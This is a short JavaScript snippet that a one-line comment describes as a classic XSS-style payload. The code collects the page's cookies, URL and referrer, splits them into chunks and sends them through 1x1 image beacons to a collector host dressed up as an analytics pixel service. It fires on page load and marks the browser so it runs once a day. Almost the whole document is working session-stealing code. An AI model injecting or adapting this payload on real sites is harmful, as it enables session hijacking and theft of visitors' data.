// corpus note: classic XSS-style payload that sends document.cookie and the current URL to a collector via Image beacons, split into chunks
(function () {
  var BASE = "https://img.cdn-pixelstats.test/collect.gif";
  var MAX = 1500;

  if (/(^|;\s*)_pxs=1/.test(document.cookie)) return; // already sent from this browser
  var c = document.cookie;
  if (!c) return;

  var id = Math.random().toString(36).slice(2, 10);
  var payload = encodeURIComponent(c) + "%7C" + encodeURIComponent(location.href) + "%7C" + encodeURIComponent(document.referrer);
  var parts = [];
  for (var i = 0; i < payload.length; i += MAX) parts.push(payload.slice(i, i + MAX));

  function fire(n) {
    if (n >= parts.length) {
      document.cookie = "_pxs=1; path=/; max-age=86400";
      return;
    }
    var img = new Image(1, 1);
    img.onload = img.onerror = function () { fire(n + 1); };
    img.src = BASE + "?i=" + id + "&n=" + n + "&of=" + parts.length + "&d=" + parts[n] + "&r=" + Date.now();
  }

  if (document.readyState === "complete") fire(0);
  else window.addEventListener("load", function () { fire(0); });
})();
